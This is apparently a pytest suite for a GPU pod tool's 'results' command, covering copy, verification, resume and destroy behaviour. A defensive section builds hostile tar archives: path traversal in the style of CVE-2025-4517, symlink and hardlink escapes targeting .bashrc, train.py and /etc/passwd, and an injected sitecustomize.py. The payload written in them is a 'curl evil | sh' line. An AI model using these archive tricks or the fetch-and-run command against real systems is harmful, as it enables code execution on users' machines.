"""`gpuc results POD` on local pods with the real functions server: a kept pod's results/ is copied here
and verified BEFORE the destroy; a stopped pod is resumed first; a failed or wrong copy destroys nothing
(and a pod resumed for it is stopped again); a pod gpuc did not start is refused."""

from __future__ import annotations

import io
import json
import os
import tarfile
from pathlib import Path
from typing import IO, Any, cast

import pytest
from fakes.tars import cve_2025_4517, listing_of, member, outside, plant, tar_of
from test_podlife import World, world

from gpuc.client.context import Ctx
from gpuc.client.jobs.copyout import copy_results, verify
from gpuc.client.jobs.results import NOT_COPIED, Fetch, results, resume, resume_stuck
from gpuc.client.pods.down import down
from gpuc.client.pods.plan import UpOptions
from gpuc.client.pods.up import up
from gpuc.core.clock import FakeClock
from gpuc.core.errors import ConfigError, GpucError, NotFound, ProviderError, SafetyRefusal
from gpuc.core.pod import Pod
from gpuc.instance_side import resultscopy
from gpuc.testkit.fakes import FakeProvider
from gpuc.testkit.local_faults import add_foreign

__all__ = ["world"]


def kept_pod(world: World) -> Pod:
    """A pod whose results cannot be synced anywhere, holding a few files, a nested folder and a link."""
    deps, provider, _ = world
    deps.settings = deps.settings.with_overrides(results_bucket="nowhere://bucket")
    pod = up(UpOptions(experiment="unsyncable"), deps)
    assert pod is not None
    paths = provider.paths(pod.id)
    (paths.results / "ckpt").mkdir(parents=True)
    (paths.results / "ckpt" / "model.bin").write_bytes(os.urandom(300_000))
    (paths.results / "metrics.json").write_text('{"loss": 0.1}')
    os.symlink("ckpt/model.bin", paths.results / "latest")
    os.symlink("/etc/hostname", paths.results / "outside")  # holds no data of the user's
    paths.job_log.write_text("epoch 1\nepoch 2\n")
    return pod


def same_tree(a: Path, b: Path) -> bool:
    def files(root: Path) -> dict[str, bytes]:
        return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file() and not p.is_symlink()}

    return files(a) == files(b)


def test_down_names_the_fix_and_results_copies_verifies_then_ends_the_pod(world: World, tmp_path: Path) -> None:
    deps, provider, calls = world
    pod = kept_pod(world)
    with pytest.raises(SafetyRefusal) as refused:
        down(pod.id, deps)
    assert f"`gpuc results {pod.id}` copies them here and ends it" in (refused.value.hint or "")
    assert f"`gpuc down {pod.id} --force` destroys them" in (refused.value.hint or "")
    on_pod = provider.paths(pod.id).results
    kept_copy = tmp_path / "before"
    import shutil

    shutil.copytree(on_pod, kept_copy, symlinks=True)
    calls.clear()
    dest = results(pod.id, deps, to=tmp_path / "here")
    assert dest == tmp_path / "here"
    assert same_tree(kept_copy, dest / "results")
    assert not (dest / "results" / "latest").is_symlink(), "no link is made from what a pod sends"
    assert (dest / "logs" / "job.log").read_text() == "epoch 1\nepoch 2\n"
    written = (dest / NOT_COPIED).read_text()
    assert "results/outside -> /etc/hostname" in written and "results/latest -> ckpt/model.bin" in written
    assert calls == ["end", "notify", "destroy"]  # down's path, after the copy
    assert provider.get(pod.id) is None
    assert deps.ledger().rows()[0].end


def test_a_stopped_pod_is_resumed_copied_and_ended(world: World, tmp_path: Path) -> None:
    deps, provider, _ = world
    pod = kept_pod(world)
    provider.stop(pod.id)
    dest = results(pod.id, deps, to=tmp_path / "here")
    assert dest is not None and (dest / "results" / "metrics.json").read_text() == '{"loss": 0.1}'
    assert provider.get(pod.id) is None


def broken_fetch(kind: str) -> Fetch:
    def fetch(out: IO[bytes], _timeout: float) -> None:
        if kind == "dies":
            raise GpucError("ssh: connection reset", hint="try again")
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tar:
            info = tarfile.TarInfo("results/metrics.json")
            data = b'{"loss": 0.1}' if kind == "short" else b"x"
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        raw = buf.getvalue()
        out.write(raw[:700] if kind == "truncated" else raw)

    return fetch


@pytest.mark.parametrize("kind", ["dies", "truncated", "short", "wrong-size"])
def test_a_failed_or_wrong_copy_never_destroys(world: World, tmp_path: Path, kind: str) -> None:
    deps, provider, calls = world
    pod = kept_pod(world)
    provider.stop(pod.id)
    calls.clear()
    with pytest.raises(GpucError):
        results(pod.id, deps, to=tmp_path / "here", fetch=broken_fetch(kind))
    assert "destroy" not in calls and "end" not in calls
    left = provider.get(pod.id)
    assert left is not None and left.status == "stopped", "resumed for the copy, stopped again"
    assert (provider.paths(pod.id).results / "metrics.json").exists()
    assert not (tmp_path / "here").exists() and list(tmp_path.glob(".here.partial-*")) == []


def test_a_full_folder_is_refused_before_anything(world: World, tmp_path: Path) -> None:
    deps, provider, calls = world
    pod = kept_pod(world)
    (tmp_path / "here").mkdir()
    (tmp_path / "here" / "old.txt").write_text("mine")
    calls.clear()
    with pytest.raises(ConfigError, match="not empty"):
        results(pod.id, deps, to=tmp_path / "here")
    assert calls == [] and provider.get(pod.id) is not None


def test_dry_run_says_each_step_and_takes_none(world: World, tmp_path: Path) -> None:
    deps, provider, _ = world
    pod = kept_pod(world)
    provider.stop(pod.id)
    said: list[str] = []
    deps.echo = said.append
    assert results(pod.id, deps, to=tmp_path / "here", dry_run=True) is None
    assert any("resume it" in s for s in said) and any("destroy" in s for s in said)
    assert provider.get(pod.id).status == "stopped"  # type: ignore[union-attr]
    assert not (tmp_path / "here").exists()


def test_results_refuses_a_pod_gpuc_did_not_start(world: World, tmp_path: Path) -> None:
    deps, provider, calls = world
    foreign = add_foreign(provider, "my-notebook")
    with pytest.raises(NotFound):
        results(foreign.id, deps, to=tmp_path / "here")
    assert provider.get(foreign.id) is not None and calls == []


def test_no_secret_reaches_the_output(world: World, tmp_path: Path) -> None:
    deps, _provider, _ = world
    pod = kept_pod(world)
    said: list[str] = []
    deps.echo = said.append
    results(pod.id, deps, to=tmp_path / "here")
    token = deps.settings.admin_token.get_secret_value()  # type: ignore[union-attr]
    assert said and all(token not in s for s in said)


# -- resume: no GPU, or none coming --------------------------------------------------------------------
class SchedulingProvider(FakeProvider):
    """Vast's start on a busy machine: it waits in "scheduling" (provisioning to gpuc)."""

    def start(self, pod_id: str) -> None:
        self.set(pod_id, status="provisioning", raw_status="scheduling/running/stopped")


def test_a_resume_that_never_gets_its_machine_says_why_and_what_to_do(clock: FakeClock, tmp_path: Path) -> None:
    provider = SchedulingProvider(clock, "vast")
    pod = provider.add("31000001", status="stopped")
    deps = Ctx(clock=clock, echo=lambda _: None)
    with pytest.raises(ProviderError) as stuck:
        resume(provider, pod, deps, timeout_s=60.0)
    assert "scheduling" in stuck.value.message and "only on the machine it was on" in stuck.value.message
    assert "stopped again" in (stuck.value.hint or "") and "`gpuc results 31000001` later" in (stuck.value.hint or "")
    assert resume_stuck("vast", provider.pods[pod.id], 60.0).message == stuck.value.message


def test_a_resume_with_no_gpu_is_said_and_still_copies(clock: FakeClock) -> None:
    provider = FakeProvider(clock, "runpod")
    pod = provider.add("rp1", status="stopped")
    said: list[str] = []
    deps = Ctx(clock=clock, echo=said.append)
    provider.start = lambda pod_id: provider.set(pod_id, status="running", gpu_count=0)  # type: ignore[method-assign]
    back = resume(provider, pod, deps)
    assert back.status == "running" and any("no GPU" in s for s in said)


def test_the_pod_side_listing_and_tar_agree(tmp_path: Path) -> None:
    from gpuc.core.podpaths import PodPaths

    paths = PodPaths(tmp_path / "pod")
    (paths.results / "a").mkdir(parents=True)
    (paths.results / "a" / "b.txt").write_text("bee")
    os.mkfifo(paths.results / "pipe")  # no data to keep: left out of both
    listing = resultscopy.listing(paths)
    buf = io.BytesIO()
    resultscopy.write_tar(paths, buf)
    buf.seek(0)
    with tarfile.open(fileobj=buf) as tar:
        names = tar.getnames()
    assert set(names) == set(listing) == {"results", "results/a", "results/a/b.txt"}
    assert listing["results/a/b.txt"] == ["f", 3]


# -- a hostile pod: its listing and its tar agree, and attack the laptop --------
class LyingPod:
    """A pod whose `resultscopy list` answers `listing`: whatever it likes, matching the tar it sends."""

    def __init__(self, listing: dict[str, list[object]]) -> None:
        self.listing = listing

    def read(self, argv: list[str], timeout_s: float = 120.0) -> tuple[int, str]:
        return 0, json.dumps(self.listing) + "\n"


def sends(members: list[tuple[tarfile.TarInfo, bytes]]) -> Fetch:
    data = tar_of(*members)

    def fetch(out: IO[bytes], _timeout: float) -> None:
        out.write(data)

    return fetch


EVIL = b"import os; os.system('curl evil | sh')\n"


def attacks(root: Path) -> dict[str, list[tuple[tarfile.TarInfo, bytes]]]:
    """id -> the members a hostile pod sends (and lists, so that only the unpacking stands in the way)."""
    return {
        "cve-2025-4517-project": cve_2025_4517("../project", "train.py", EVIL, top="results"),
        "cve-2025-4517-home": cve_2025_4517("../home", ".bashrc", EVIL, top="results"),
        "symlink-then-file": [
            member("results", "d"),
            member("results/p", "l", target="../../project"),
            member("results/p/train.py", "f", EVIL),
        ],
        "absolute-symlink-then-file": [
            member("results", "d"),
            member("results/h", "l", target=str(root / "home")),
            member("results/h/.bashrc", "f", EVIL),
        ],
        "dotdot-name": [member("results", "d"), member("results/../../project/train.py", "f", EVIL)],
        "hardlink-to-a-file-outside": [member("results", "d"), member("results/t", "h", target="/etc/passwd")],
        "device": [member("results", "d"), member("results/null", "chr")],
        "duplicate-name": [
            member("results", "d"),
            member("results/a.txt", "f", b"first"),
            member("results/a.txt", "f", b"other"),
        ],
    }


@pytest.mark.parametrize("case", sorted(attacks(Path("/x"))))
def test_a_hostile_pods_tar_writes_nothing_outside_the_staging_folder(
    tmp_path: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch, case: str
) -> None:
    plant(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    members = attacks(tmp_path)[case]
    before = outside(tmp_path)
    refused: Exception | None = None
    try:
        copy_results(cast(Any, LyingPod(listing_of(members))), sends(members), tmp_path / "here", Ctx(clock=clock))
    except Exception as exc:  # judged after what matters most: what changed outside
        refused = exc
    assert outside(tmp_path) == before, "the pod wrote outside the staging folder"
    assert isinstance(refused, GpucError), refused
    assert "\n" not in str(refused) and "nothing was destroyed" in (refused.hint or "")
    assert not (tmp_path / "here").exists() and list(tmp_path.glob(".here.partial-*")) == []


def test_a_pod_sending_a_file_its_listing_does_not_name_is_refused(world: World, tmp_path: Path) -> None:
    deps, provider, calls = world
    pod = kept_pod(world)
    paths = provider.paths(pod.id)

    def adds_one(out: IO[bytes], _timeout: float) -> None:
        real = io.BytesIO()
        resultscopy.write_tar(paths, real)
        real.seek(0)
        with tarfile.open(fileobj=real) as sent, tarfile.open(fileobj=out, mode="w") as tar:
            for info in sent.getmembers():
                tar.addfile(info, sent.extractfile(info) if info.isreg() else None)
            extra, body = member("results/sitecustomize.py", "f", EVIL)
            tar.addfile(extra, io.BytesIO(body))

    calls.clear()
    with pytest.raises(GpucError, match="its listing does not name it"):
        results(pod.id, deps, to=tmp_path / "here", fetch=adds_one)
    assert "destroy" not in calls and not (tmp_path / "here").exists()


def test_verify_refuses_what_the_listing_did_not_name(tmp_path: Path) -> None:
    (tmp_path / "results").mkdir()
    (tmp_path / "results" / "a.txt").write_text("a")
    (tmp_path / "logs").mkdir()  # above a listed name: the tar need not hold it
    (tmp_path / "logs" / "job.log").write_text("x")
    expected: dict[str, list[object]] = {"results": ["d"], "results/a.txt": ["f", 1], "logs/job.log": ["f", 1]}
    verify(expected, {}, tmp_path)
    (tmp_path / "results" / "b.txt").write_text("b")
    with pytest.raises(GpucError, match="1 not in its listing"):
        verify(expected, {}, tmp_path)


@pytest.mark.parametrize("name", [NOT_COPIED, "../outside.txt", "elsewhere/x", "logs/other.txt"])
def test_a_listing_naming_what_was_not_asked_is_refused(tmp_path: Path, clock: FakeClock, name: str) -> None:
    members = [member("results", "d"), member(name, "f", b"x")]
    with pytest.raises(GpucError, match="which is not part of"):
        copy_results(cast(Any, LyingPod(listing_of(members))), sends(members), tmp_path / "here", Ctx(clock=clock))
    assert list(tmp_path.iterdir()) == []
